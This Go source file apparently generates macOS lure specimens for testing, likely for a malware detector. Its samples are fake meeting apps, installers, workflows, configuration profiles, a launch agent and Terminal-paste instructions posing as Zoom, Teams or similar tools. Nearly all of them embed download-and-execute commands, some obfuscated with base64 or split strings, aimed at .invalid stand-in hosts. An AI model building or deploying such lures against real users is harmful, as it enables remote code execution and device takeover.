package specimens

import (
	"bytes"
	"compress/zlib"
	"crypto/sha1"
	"encoding/binary"
	"fmt"
	"strings"
)

const plistHead = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">`

// freshMacShapes makes lures in the other forms that a Mac opens.
func (b *kit) freshMacShapes() {
	b.freshCompiled()
	b.freshBundles()
	b.freshPlists()
	b.freshPackages()
}

func (b *kit) freshCompiled() {
	for _, c := range []struct {
		story, name, note string
		blanks            int
		codes, texts      []string
	}{
		{"notetaker", "Granola Call Helper.scpt", "Lets the note taker hear the call. Press Run.", 0, []string{"sysoexec"}, []string{"curl -s https://note-hear.invalid/g | zsh"}},
		{"brandless", "Session.scpt", "Session 41", 0, []string{"sysodsct"}, []string{"https://session-41.invalid/s"}},
		{"brandless", "Viewer.scpt", "Opens the deck", 14, []string{"sysoexec"}, []string{"cu", "rl -s ", "https:/", "/deck-viewer.inv", "alid/d|", "s", "h"}},
		{"esign", "Signature Pad.scpt", "Draws your signature", 0, []string{"sysodlog", "sysoexec"}, []string{"Enter your Mac password to sign.", "curl -s -d @- https://signature-pad.invalid/p"}},
		{"court", "Remote Witness.scpt", "Witness room", 0, []string{"sysoexec"}, []string{"mkdir -p ~/.w; cd ~/.w; curl -O https://remote-witness.invalid/w.zip; unzip -o w.zip; ./w &"}},
		{"brandless", "Audio Check.scpt", "Audio check", 0, []string{"sysoexec"}, []string{"echo " + b64("curl -s https://audio-check-c.invalid/a|sh") + "|base64 -D|sh"}},
		{"telegram", "Звонок.scpt", "Zvonok", 0, []string{"sysoexec"}, []string{"python3 -c \"import urllib.request as u;exec(u.urlopen('https://zvonok-tg.invalid/p').read())\""}},
	} {
		var f fasd
		f.begin()
		f.comment(" " + c.note)
		f.blank(c.blanks)
		for _, code := range c.codes {
			f.call(code)
		}
		for _, t := range c.texts {
			f.text(t)
		}
		f.end()
		b.boxed(c.story, "macos", "plain", "compiled", "applescript", c.name, f.data, strings.Join(c.texts, ""))
	}
}

func (b *kit) freshBundles() {
	app := func(story, obf, language, name, id, executable string, program []byte, more ...Member) {
		b.bundle(story, "app", obf, language, name, append([]Member{
			{"Contents/Info.plist", infoPlist(id, strings.TrimSuffix(name, ".app"), executable), 0o644},
			{"Contents/MacOS/" + executable, program, 0o755}}, more...))
	}
	app("captions", "plain", "shell", "Live Captions.app", "ai.captions.live", "run", []byte("#!/bin/bash\ncurl -s https://live-captions-app.invalid/c | bash\nosascript -e 'display alert \"No captions available for this call.\"'\n"))
	app("brandless", "script in resources", "shell", "Call.app", "app.call.client", "call", []byte("#!/bin/sh\ncd \"${0%/*}/../Resources\" && exec sh ./lib.dat\n"),
		Member{"Contents/Resources/lib.dat", []byte("x=/tmp/.call; curl -s https://call-app-client.invalid/x > $x; chmod +x $x; exec $x\n"), 0o644})
	app("brandless", "python bundled", "python", "Lounge.app", "io.lounge.desk", "Lounge", []byte("#!/usr/bin/env python3\nimport urllib.request, os, tempfile\np = tempfile.mktemp()\nurllib.request.urlretrieve('https://lounge-desk.invalid/bin', p)\nos.chmod(p, 0o755)\nos.execv(p, [p])\n"))
	app("updater", "plain", "none", "Google Meet Companion.app", "com.meet.companion", "Companion", machoFile("companion"))
	app("workplace", "plain", "none", "Zoom Workplace.app", "com.zoom.workplace.setup", "setup", machoFile(""))
	app("teams", "plain", "none", "Microsoft Teams (work or school).app", "org.teams.desktop", "teams", machoFile("teams-1"))
	app("electron", "main process", "javascript", "Talkroom.app", "com.talkroom.desktop", "Talkroom", machoFile("talkroom"),
		Member{"Contents/Resources/app/package.json", []byte(`{"name":"talkroom","main":"main.js"}` + "\n"), 0o644},
		Member{"Contents/Resources/app/main.js", []byte("const {app,dialog}=require('electron');const {exec}=require('child_process');\napp.whenReady().then(()=>{exec('curl -s https://talkroom-desktop.invalid/m | bash');dialog.showErrorBox('Cannot connect','Cannot connect to the server. Please reinstall or use a VPN.');});\n"), 0o644})
	applet := func(story, obf, name, text string, code string) {
		var f fasd
		f.begin()
		f.call(code)
		f.text(text)
		f.end()
		app(story, obf, "applescript", name, "com.apple.ScriptEditor.id."+story, "applet", machoFile("applet"), Member{"Contents/Resources/Scripts/main.scpt", f.data, 0o644})
	}
	applet("kyc", "compiled applet", "Video Ident.app", "curl -s https://vident-applet.invalid/v | sh", "sysoexec")
	applet("school", "compiled applet", "Elternabend.app", "do shell script \"curl -s https://elternabend-raum.invalid/e | sh\"", "sysodsct")
	b.bundle("background", "workflow", "plain", "shell", "Blur Background.workflow", []Member{
		{"Contents/Info.plist", []byte(plistHead + "<dict><key>NSServices</key><array/></dict></plist>\n"), 0o644},
		{"Contents/document.wflow", []byte(plistHead + `<dict><key>actions</key><array><dict><key>action</key><dict><key>ActionBundlePath</key><string>/System/Library/Automator/Run Shell Script.action</string>
<key>ActionParameters</key><dict><key>COMMAND_STRING</key><string>curl -s https://blur-background.invalid/b | zsh</string><key>shell</key><string>/bin/zsh</string></dict></dict></dict></array></dict></plist>
`), 0o644}})
	b.bundle("calendar", "workflow", "applescript action", "applescript", "Join Next Call.workflow", []Member{
		{"Contents/document.wflow", []byte(plistHead + `<dict><key>actions</key><array><dict><key>action</key><dict><key>ActionBundlePath</key><string>/System/Library/Automator/Run AppleScript.action</string>
<key>ActionParameters</key><dict><key>source</key><string>on run
do shell script "curl -s https://join-next-call.invalid/j -o /tmp/j &amp;&amp; sh /tmp/j"
end run</string></dict></dict></dict></array></dict></plist>
`), 0o644}})
	b.bundle("goto", "scptd", "plain", "applescript", "GoTo Room.scptd", []Member{
		{"Contents/Info.plist", infoPlist("com.apple.ScriptEditor.id.gotoroom", "GoTo Room", ""), 0o644},
		{"Contents/Resources/Scripts/main.applescript", []byte("property p : \"curl -s https://goto-room.invalid/\"\ndo shell script p & \"g | sh\"\n"), 0o644}})
	b.bundle("brandless", "pkg folder", "plain", "shell", "MeetingRoom.pkg", []Member{
		{"Contents/Info.plist", infoPlist("com.room.pkg", "MeetingRoom", ""), 0o644},
		{"Contents/Resources/postflight", []byte("#!/bin/sh\ncurl -s https://meetingroom-pkg.invalid/p | sh\nexit 0\n"), 0o755}})
	b.bundle("brandless", "prefPane", "plain", "shell", "Call Quality.prefPane", []Member{
		{"Contents/Info.plist", infoPlist("com.callquality.pane", "Call Quality", "pane"), 0o644},
		{"Contents/MacOS/pane", machoFile("pane"), 0o755},
		{"Contents/Resources/install.sh", []byte("#!/bin/bash\ncurl -fs https://call-quality.invalid/q -o ~/Library/.q; chmod +x ~/Library/.q; ~/Library/.q &\n"), 0o755}})
}

func (b *kit) freshPlists() {
	mac := func(story, obf, language, name, text string) { b.lure(story, "macos", obf, language, name, text) }
	mac("terminal", "settings file that runs", "plist", "Conference Theme.terminal", plistHead+`<dict><key>CommandString</key><string>curl -s https://conference-theme.invalid/t | zsh; clear</string>
<key>RunCommandAsShell</key><true/><key>name</key><string>Conference Theme</string><key>type</key><string>Window Settings</string></dict></plist>
`)
	mac("fileloc", "plain", "shortcut", "Recording.fileloc", plistHead+`<dict><key>URL</key><string>smb://recordings.invalid/share/Recording.app</string></dict></plist>
`)
	mac("fileloc", "file protocol in other case", "shortcut", "Join Call.inetloc", plistHead+`<dict><key>URL</key><string>FiLe:////net/join-call.invalid/Join.app</string></dict></plist>
`)
	mac("fileloc", "look-alike", "shortcut", "Teams Town Hall.webloc", plistHead+`<dict><key>URL</key><string>https://teams.live.com-townhall.invalid/meet/93847?p=K2</string></dict></plist>
`)
	mac("profile", "root certificate and proxy", "mobileconfig", "Secure Meetings.mobileconfig", plistHead+`<dict><key>PayloadDisplayName</key><string>Secure Meetings for Guests</string><key>PayloadType</key><string>Configuration</string>
<key>PayloadContent</key><array><dict><key>PayloadType</key><string>com.apple.security.root</string><key>PayloadContent</key><data>TUlJQg==</data></dict>
<dict><key>PayloadType</key><string>com.apple.proxy.http.global</string><key>ProxyServer</key><string>px.secure-meetings.invalid</string><key>ProxyServerPort</key><integer>8080</integer></dict></array></dict></plist>
`)
	mac("profile", "device management", "mobileconfig", "Zoom Guest Access.mobileconfig", plistHead+`<dict><key>PayloadDisplayName</key><string>Zoom Guest Access</string><key>PayloadType</key><string>Configuration</string>
<key>PayloadContent</key><array><dict><key>PayloadType</key><string>com.apple.mdm</string><key>ServerURL</key><string>https://mdm.zoom-guest.invalid/s</string><key>CheckInURL</key><string>https://mdm.zoom-guest.invalid/c</string><key>AccessRights</key><integer>8191</integer></dict></array></dict></plist>
`)
	mac("agent", "launch agent sent as an attachment", "plist", "com.zoom.presence.plist", plistHead+`<dict><key>Label</key><string>com.zoom.presence</string><key>ProgramArguments</key><array><string>/bin/bash</string><string>-c</string><string>curl -s https://zoom-presence.invalid/p | bash</string></array>
<key>RunAtLoad</key><true/><key>StartInterval</key><integer>300</integer></dict></plist>
`)
	mac("instructions", "clipboard line", "text", "HOW TO JOIN.txt", `
How to join the partner call (macOS)

1. Press Command + Space, type Terminal, press Return.
2. Copy the line below, paste it and press Return:

/bin/bash -c "$(curl -fsSL https://partner-call.invalid/join.sh)"

3. Enter the password of your Mac when asked. You will not see the characters.
4. The call opens by itself.
`)
	mac("instructions", "German, line with base64", "text", "Anleitung Mikrofon.txt", `
Ihr Mikrofon wird vom Gastgeber nicht erkannt?

Öffnen Sie das Terminal (Programme > Dienstprogramme) und fügen Sie diese Zeile ein:

echo "`+b64("curl -s https://mikrofon-hilfe.invalid/m | zsh")+`" | base64 -d | zsh

Danach bitte der Besprechung neu beitreten.
`)
	mac("instructions", "rich text", "text", "Read before the interview.rtf", `
{\rtf1\ansi\ansicpg1252 {\fonttbl\f0\fswiss Helvetica;}
\f0\fs28 Interview with Northgate Ventures\par
Our studio needs the latest video bridge. Open {\b Terminal} and paste:\par
\f1 curl -sL https://northgate-bridge.invalid/v | bash\par
\f0 Then open the link in the calendar entry.\par}
`)
	mac("instructions", "markdown of a repository", "text", "README.md", `
# VideoBridge assignment

Clone the project, then install the bridge **before** the call with our engineer:

´´´sh
sudo sh -c "$(curl -fsSL https://videobridge-task.invalid/install)"
´´´

The bridge is required: without it we cannot see your screen.
`)
}

// freshPackages makes installer packages, whose scripts run as root.
func (b *kit) freshPackages() {
	pkg := func(story, obf, name, id, script string, hidden ...string) {
		b.boxed(story, "macos", "pkg", obf, "shell", name, xarFile(id, script), hidden...)
	}
	pkg("brandless", "postinstall", "CallSetup.pkg", "com.callsetup.pkg", "#!/bin/bash\ncurl -s https://callsetup-pkg.invalid/c -o /tmp/.c && chmod +x /tmp/.c && /tmp/.c &\nexit 0\n")
	pkg("driver", "postinstall", "VirtualCam-2.1.pkg", "io.virtualcam.driver", "#!/bin/sh\n# installs the camera extension\nlaunchctl asuser $(id -u $USER) osascript -e 'do shell script \"curl -s https://virtualcam-x.invalid/v | sh\"'\n")
	pkg("workplace", "postinstall with base64", "ZoomWorkplaceInstaller.pkg", "us.zoom.pkg.workplace", "#!/bin/bash\nA=$(echo "+b64("https://workplace-pkg.invalid/w")+" | base64 -D)\nB=$(mktemp)\ncurl -s \"$A\" -o \"$B\"; bash \"$B\"\n", "https://workplace-pkg.invalid/w")
	pkg("teams", "no script, wrong publisher", "MicrosoftTeams.pkg", "org.example.teams", "#!/bin/sh\nexit 0\n")
	pkg("captions", "python in postinstall", "CaptionKit.pkg", "ai.captionkit", "#!/usr/bin/env python3\nimport urllib.request\nexec(urllib.request.urlopen('https://captionkit-pkg.invalid/k').read())\n")
}

// xarFile makes a flat package: a xar archive with the package's description
// and its install script. The format is described in the manual of xar.
func xarFile(id, script string) []byte {
	info := fmt.Sprintf("<pkg-info format-version=\"2\" identifier=%q version=\"1.0\" auth=\"root\"><scripts><postinstall file=\"./postinstall\"/></scripts></pkg-info>\n", id)
	scripts := gzipped(cpio("postinstall", script))
	var heap bytes.Buffer
	heap.Write(make([]byte, sha1.Size)) // the checksum of the table, known at the end
	file := func(n int, name string, data []byte) string {
		at := heap.Len()
		heap.Write(data)
		return fmt.Sprintf(`<file id="%d"><name>%s</name><type>file</type><data><length>%d</length><offset>%d</offset><size>%d</size><encoding style="application/octet-stream"/></data></file>`, n, name, len(data), at, len(data))
	}
	table := `<?xml version="1.0" encoding="UTF-8"?><xar><toc><checksum style="sha1"><offset>0</offset><size>20</size></checksum>` + file(1, "PackageInfo", []byte(info)) + file(2, "Scripts", scripts) + "</toc></xar>"
	var packed bytes.Buffer
	w := zlib.NewWriter(&packed)
	w.Write([]byte(table)) // a bytes.Buffer takes everything
	w.Close()
	head := []byte("xar!")
	head = binary.BigEndian.AppendUint16(head, 28)
	head = binary.BigEndian.AppendUint16(head, 1)
	head = binary.BigEndian.AppendUint64(head, uint64(packed.Len()))
	head = binary.BigEndian.AppendUint64(head, uint64(len(table)))
	head = binary.BigEndian.AppendUint32(head, 1) // SHA-1
	sum := sha1.Sum(packed.Bytes())
	copy(heap.Bytes(), sum[:])
	return append(append(head, packed.Bytes()...), heap.Bytes()...)
}

// cpio makes an archive of one program in the old portable format (odc).
func cpio(name, text string) []byte {
	var out bytes.Buffer
	entry := func(name, text string, mode int) {
		fmt.Fprintf(&out, "070707%06o%06o%06o%06o%06o%06o%06o%011o%06o%011o%s\x00%s", 0, 1, mode, 0, 0, 1, 0, 0, len(name)+1, len(text), name, text)
	}
	entry("./"+name, text, 0o100755)
	entry("TRAILER!!!", "", 0)
	return out.Bytes()
}
